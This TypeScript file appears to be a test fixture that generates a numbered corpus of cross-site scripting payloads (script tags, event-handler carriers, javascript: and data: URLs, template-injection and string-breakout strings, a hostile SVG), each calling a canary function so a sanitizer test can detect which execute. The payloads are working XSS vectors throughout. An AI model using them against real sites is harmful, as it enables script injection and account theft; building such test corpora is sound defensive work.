/** The function that a payload calls when it runs, with its number. It is there on every page that is looked at. */
export const CANARY = '__pwned'
/** A host that nothing of ours asks for. */
export const CANARY_HOST = 'canary.invalid'

const seen = new RegExp(`${CANARY}\\((\\d+)\\)`, 'g')

/** The numbers of the payloads that stand in a text. */
export function payloadsIn(text: string): number[] {
  return [...text.matchAll(seen)].map(([, number]) => Number(number))
}

const handlers = [
  ...['error', 'load', 'focus', 'blur', 'click', 'mouseover', 'mouseenter', 'pointerenter', 'pointerover'],
  ...['toggle', 'animationstart', 'animationend', 'transitionend', 'wheel', 'scroll', 'scrollend', 'input'],
  ...['change', 'invalid', 'submit', 'reset', 'select', 'copy', 'cut', 'paste', 'keydown', 'keyup', 'drag'],
  ...['drop', 'play', 'pause', 'loadstart', 'canplay', 'progress', 'begin', 'end', 'repeat', 'hashchange'],
  ...['popstate', 'message', 'pageshow', 'beforeunload', 'cuechange', 'contextmenu', 'beforetoggle'],
]

/** Elements on which a handler runs without anybody's help, or nearly so. */
const carriers: readonly ((handler: string, code: string) => string)[] = [
  (handler, code) => `<img src=x on${handler}=${code}>`,
  (handler, code) => `<svg on${handler}=${code}><animate on${handler}=${code}>`,
  (handler, code) => `<input autofocus on${handler}=${code}>`,
  (handler, code) => `"><video src=x on${handler}="${code}">`,
  (handler, code) => `'><details open on${handler}='${code}'>x`,
  (handler, code) => `<body on${handler}=${code}>`,
]

/** Ways in that need no handler. */
const others: readonly ((code: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `</title><script>${code}</script>`,
  (code) => `</script><script>${code}//`,
  (code) => `<ScRiPt>${code}</sCrIpT>`,
  (code) => `<<script>${code}//<</script>`,
  (code) => `<script src=//${CANARY_HOST}/a.js>${code}</script>`,
  (code) => `<script src="data:text/javascript,${code}"></script>`,
  (code) => `<script type=module>${code}</script>`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<svg><script href="data:,${code}"/></svg>`,
  (code) => `<svg><a xlink:href="javascript:${code}"><text>x</text></a>`,
  (code) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${code}>#x">`,
  (code) => `<svg><set attributeName=href to=javascript:${code}>`,
  (code) => `<math><mtext><mglyph><style><img src=x onerror=${code}>`,
  (code) => `<math href="javascript:${code}">x</math>`,
  (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  (code) => `<template><img src=x onerror=${code}></template>`,
  (code) => `<iframe src="javascript:${code}"></iframe>`,
  (code) => `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  (code) => `<object data="javascript:${code}"></object>`,
  (code) => `<embed src="javascript:${code}">`,
  (code) => `<a href="javascript:${code}" autofocus>x</a>`,
  (code) => `<a href="&#106;avascript:${code}">x</a>`,
  (code) => `<a href="java\tscript:${code}">x</a>`,
  (code) => `<form action="javascript:${code}"><button>x</button></form>`,
  (code) => `<button formaction="javascript:${code}">x</button>`,
  (code) => `<meta http-equiv=refresh content="0;javascript:${code}">`,
  (code) => `<base href="//${CANARY_HOST}/"><script src=a.js>${code}</script>`,
  (code) => `<link rel=stylesheet href="//${CANARY_HOST}/${code}.css">`,
  (code) => `<style>@import "//${CANARY_HOST}/${code}";</style>`,
  (code) => `<div style="background:url(//${CANARY_HOST}/${code})">x</div>`,
  (code) => `<img src="//${CANARY_HOST}/${code}">`,
  (code) => `![x](javascript:${code})`,
  (code) => `[x](javascript:${code})`,
  (code) => `[x](data:text/html,<script>${code}</script>)`,
  (code) => `{{constructor.constructor('${code}')()}}`,
  (code) => `\${${code}}`,
  (code) => `#{${code}}`,
  (code) => `<%= ${code} %>`,
  (code) => `{{= ${code} }}`,
  (code) => `';${code}//`,
  (code) => `";${code}//`,
  (code) => `\`;${code}//`,
  (code) => `*/${code}/*`,
  (code) => `]]>${code}<![CDATA[`,
  (code) => `--><img src=x onerror=${code}>`,
  (code) => `\u2028${code}//`,
  (code) => `javascript:${code}`,
  (code) => `JaVaScRiPt:${code}`,
  (code) => `javascript://%0a${code}`,
  (code) => `data:text/html,<script>${code}</script>`,
  (code) => `vbscript:${code}`,
  (code) => `\ufeffjavascript:${code}`,
]

/** Every payload once; the number in each is its place in this list. */
export const payloads: readonly string[] = [
  ...others,
  ...carriers.flatMap((carrier) => handlers.map((handler) => (code: string) => carrier(handler, code))),
].map((make, number) => make(`${CANARY}(${number})`))

/** Addresses that a token may name as its picture or its page; none of them may be followed by a script. */
export const hostileLinks: readonly string[] = [
  ...['javascript', 'JaVaScRiPt', 'vbscript', 'view-source:javascript', ' javascript'].map(
    (scheme, index) => `${scheme}:${CANARY}(${9_000 + index})`,
  ),
  `data:text/html,<script>${CANARY}(9010)</script>`,
  `data:text/html;base64,${Buffer.from(`<script>${CANARY}(9011)</script>`).toString('base64')}`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${CANARY}(9012)"/>`,
  `https://${CANARY_HOST}/"onerror="${CANARY}(9013)`,
  `https://${CANARY_HOST}/'><script>${CANARY}(9014)</script>`,
  `//${CANARY_HOST}/a.svg`,
  `https://${CANARY_HOST}/a.svg#<script>${CANARY}(9015)</script>`,
]

/** A drawing that carries one payload in each way that a drawing can. */
export function hostileDrawing(number: number): string {
  const code = `${CANARY}(${number})`
  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="400" height="400" onload="${code}">
<script>${code}; top.${code}</script>
<script href="https://${CANARY_HOST}/a.js"/>
<image href="https://${CANARY_HOST}/a.png" onerror="${code}" width="9" height="9"/>
<foreignObject width="99" height="99"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:${code}"/><img src="x" onerror="${code}"/></body></foreignObject>
<a xlink:href="javascript:${code}"><rect width="400" height="400" fill="#${((number * 2_654_435) % 0xffffff).toString(16).padStart(6, '0')}"/></a>
<animate attributeName="x" onbegin="${code}" dur="1s"/>
</svg>`
}
